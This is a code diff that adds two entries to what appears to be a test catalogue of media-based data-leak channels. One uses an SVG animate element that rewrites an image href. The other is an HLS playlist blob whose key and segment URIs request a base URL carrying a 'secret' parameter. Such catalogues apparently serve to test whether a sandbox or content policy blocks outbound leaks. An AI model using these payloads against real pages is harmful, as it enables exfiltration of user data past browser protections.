@@ -89,4 +89,23 @@ export const MEDIA: readonly Channel[] = [
     entry: 9,
     attack: (t) => t.element("embed", { src: `${t.base}/embed?secret=1` }),
   },
+  {
+    id: "svg_animate_href",
+    family: "media",
+    entry: 5,
+    attack: (t) =>
+      t.markup(
+        `<svg><image width="9" height="9"><animate attributeName="href" values="${t.base}/img?secret=1" dur="1s" fill="freeze"/></image></svg>`,
+      ),
+  },
+  {
+    id: "hls_blob",
+    family: "media",
+    entry: 8,
+    attack: (t) => {
+      const list = `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-KEY:METHOD=AES-128,URI="${t.base}/key?secret=1"\n#EXTINF:9,\n${t.base}/video?secret=1\n#EXT-X-ENDLIST\n`;
+      const src = t.blob(list, "application/vnd.apple.mpegurl");
+      return t.element("video", { autoplay: "", muted: "", src }).play();
+    },
+  },
 ];
